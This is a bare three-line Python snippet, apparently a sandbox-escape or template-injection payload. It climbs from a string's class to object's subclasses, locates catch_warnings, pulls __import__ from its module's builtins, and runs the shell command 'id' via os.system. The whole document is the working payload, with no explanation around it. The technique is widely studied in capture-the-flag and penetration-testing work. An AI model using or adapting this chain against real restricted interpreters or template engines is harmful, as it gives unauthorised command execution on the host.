klasses = "".__class__.__mro__[1].__subclasses__()
warning = [c for c in klasses if c.__name__ == "catch_warnings"][0]
warning()._module.__builtins__["__import__"]("os").system("id")
